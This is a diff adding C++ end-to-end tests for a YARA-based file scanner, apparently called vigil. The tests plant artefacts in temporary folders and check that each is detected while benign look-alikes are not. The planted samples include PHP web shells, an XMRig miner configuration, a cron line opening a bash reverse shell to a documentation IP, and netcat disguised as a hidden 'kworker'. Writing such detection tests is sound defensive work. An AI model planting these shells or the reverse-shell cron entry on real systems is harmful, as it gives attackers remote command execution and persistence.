@@ -1,0 +1,128 @@
+// vigil scan (issue 15, YARA over files): planted artefacts - a netcat renamed and hidden, a
+// PHP web shell, an XMRig configuration, a reverse shell in a cron file - are found with the
+// bundled rules; clean look-alikes and this host's /usr/bin raise nothing high; a third-party
+// rule set with a broken file loads the rest and names the broken file and line; under
+// --root, a symlink never leads out of the image.
+#include <sys/stat.h>
+
+#include <filesystem>
+#include <map>
+#include <set>
+
+#include <gtest/gtest.h>
+
+#include "e2e/vigil_run.hpp"
+#include "support/temp_dir.hpp"
+
+using namespace vigil::testing;
+namespace fs = std::filesystem;
+
+namespace {
+
+const std::string kNetcat = "/usr/bin/nc.traditional";
+
+// rule id → the file paths it matched.
+std::map<std::string, std::set<std::string>> matches(const RunResult& r) {
+  std::map<std::string, std::set<std::string>> out;
+  auto doc = nlohmann::json::parse(r.out, nullptr, false);
+  if (doc.is_discarded()) return out;
+  for (const auto& f : doc["findings"])
+    if (f["rule"]["id"].get<std::string>().starts_with("yara."))
+      out[f["rule"]["id"].get<std::string>()].insert(f["file"]["path"].get<std::string>());
+  return out;
+}
+
+std::size_t high(const RunResult& r) {
+  std::size_t n = 0;
+  auto doc = nlohmann::json::parse(r.out, nullptr, false);
+  if (doc.is_discarded()) return 0;
+  for (const auto& f : doc["findings"]) {
+    std::string s = f["event"]["severity_name"].is_string() ? f["event"]["severity_name"].get<std::string>() : "";
+    std::string level = f["vigil"]["severity"].is_string() ? f["vigil"]["severity"].get<std::string>() : s;
+    if (level == "high" || level == "critical") ++n;
+  }
+  return n;
+}
+
+}  // namespace
+
+TEST(Scan, PlantedArtefactsAreFoundWithTheBundledRules) {
+  TempDir d("vigil-scan");
+  if (fs::exists(kNetcat)) {
+    fs::create_directories(d / ".x");
+    fs::copy_file(kNetcat, d / ".x/kworker");
+    fs::copy_file(kNetcat, d / "nc");  // under its own name: not disguised
+  }
+  d.write("www/uploads/img.php", "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); } ?>\n");
+  d.write("www/eval.php", "<?php @eval(base64_decode($_POST['z0'])); ?>\n");
+  d.write(".cache/config.json",
+          "{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"cpu\": {\"enabled\": true},\n  \"randomx\": {\"mode\": \"fast\"},\n"
+          "  \"pools\": [{\"url\": \"pool.example.net:3333\", \"user\": \"x\", \"algo\": \"rx/0\"}]\n}\n");
+  d.write("cron.d/backup", "*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n");
+  auto r = run_vigil({"scan", d.path(), "--format", "json"});
+  ASSERT_EQ(r.exit_code, 1) << r.err;  // high findings
+  auto m = matches(r);
+  if (fs::exists(kNetcat)) {
+    EXPECT_EQ(m["yara.vigil_netcat_renamed"], std::set<std::string>{d / ".x/kworker"}) << r.out;
+  } else {
+    std::cerr << "netcat-traditional is not installed: the renamed-netcat case is skipped\n";
+  }
+  EXPECT_EQ(m["yara.vigil_webshell_php"], (std::set<std::string>{d / "www/eval.php", d / "www/uploads/img.php"}));
+  EXPECT_EQ(m["yara.vigil_miner_xmrig_config"], std::set<std::string>{d / ".cache/config.json"});
+  EXPECT_EQ(m["yara.vigil_reverse_shell_bash"], std::set<std::string>{d / "cron.d/backup"});
+  auto doc = nlohmann::json::parse(r.out);
+  for (const auto& f : doc["findings"])
+    if (f["rule"]["id"] == "yara.vigil_reverse_shell_bash") {
+      EXPECT_NE(f["vigil"]["yara"]["strings"].get<std::string>().find("$dev_tcp@0x"), std::string::npos) << f.dump();
+      EXPECT_EQ(f["threat"]["technique"]["id"][0], "T1059.004") << f.dump();
+    }
+}
+
+TEST(Scan, CleanLookAlikesAndThisHostsProgramsRaiseNothingHigh) {
+  TempDir d("vigil-scan");
+  d.write("www/search.php", "<?php echo htmlspecialchars($_GET['q'] ?? ''); $out = shell_exec('uptime'); ?>\n");
+  d.write("notes/networking.md", "Bash can open TCP sockets through /dev/tcp/host/port, see the bash manual.\n");
+  d.write("app/config.json", "{\"pools\": {\"db\": {\"size\": 4}}, \"cpu\": 2}\n");
+  d.write("cron.d/logrotate", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n");
+  auto r = run_vigil({"scan", d.path(), "--format", "json"});
+  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
+  EXPECT_TRUE(matches(r).empty()) << r.out;
+  auto bin = run_vigil({"scan", "/usr/bin", "--format", "json"});
+  EXPECT_EQ(bin.exit_code, 0) << bin.err;
+  EXPECT_EQ(high(bin), 0u) << bin.out;
+}
+
+TEST(Scan, ABrokenThirdPartyRuleFileIsNamedWithItsLineAndTheRestLoad) {
+  TempDir d("vigil-scan");
+  d.write("rules/a_good.yar", "rule third_party_marker { strings: $a = \"MARKER-1234\" condition: $a }\n");
+  d.write("rules/b_broken.yar", "rule broken {\n  strings:\n    $a = \"x\"\n  condition:\n    $a and and\n}\n");
+  d.write("rules/c_uses_externals.yar",
+          "rule by_name { condition: filename == \"payload.bin\" and extension == \"bin\" }\n");
+  d.write("files/payload.bin", "here is MARKER-1234\n");
+  auto r = run_vigil({"scan", d / "files", "--no-builtin", "--rules", d / "rules", "--format", "json"});
+  EXPECT_NE(r.err.find(d / "rules/b_broken.yar:5:"), std::string::npos) << r.err;
+  auto m = matches(r);
+  EXPECT_EQ(m["yara.third_party_marker"], std::set<std::string>{d / "files/payload.bin"}) << r.out;
+  EXPECT_EQ(m["yara.by_name"], std::set<std::string>{d / "files/payload.bin"}) << r.out;
+  // A file that is not YARA at all, alone: an error, not a crash.
+  d.write("notyara/x.yar", "\x7f" "ELF\x01\x01 this is not a rule\n");
+  auto bad = run_vigil({"scan", d / "files", "--no-builtin", "--rules", d / "notyara", "--format", "json"});
+  EXPECT_EQ(bad.exit_code, 2);
+  EXPECT_NE(bad.err.find("x.yar:1"), std::string::npos) << bad.err;
+}
+
+TEST(Scan, UnderRootASymlinkNeverLeadsOutOfTheImage) {
+  TempDir d("vigil-scan");
+  d.write("img/tmp/readme.txt", "nothing here\n");
+  fs::create_directories(d / "img/var/www");
+  d.write("img/var/www/shell.php", "<?php system($_GET['cmd']); ?>\n");
+  // An absolute symlink in the image points at the analyst's own files: resolved inside the image.
+  d.write("outside/evil.php", "<?php system($_GET['cmd']); ?>\n");
+  fs::create_symlink(d / "outside/evil.php", d / "img/tmp/link.php");
+  auto r = run_vigil({"scan", "--root", d / "img", "/tmp", "/var/www", "--format", "json"});
+  auto m = matches(r);
+  EXPECT_EQ(m["yara.vigil_webshell_php"], std::set<std::string>{d / "img/var/www/shell.php"}) << r.out << r.err;
+  // The drop zones by default, under the root: the same web shell.
+  auto dflt = run_vigil({"scan", "--root", d / "img", "--format", "json"});
+  EXPECT_EQ(matches(dflt)["yara.vigil_webshell_php"], std::set<std::string>{d / "img/var/www/shell.php"}) << dflt.out;
+}
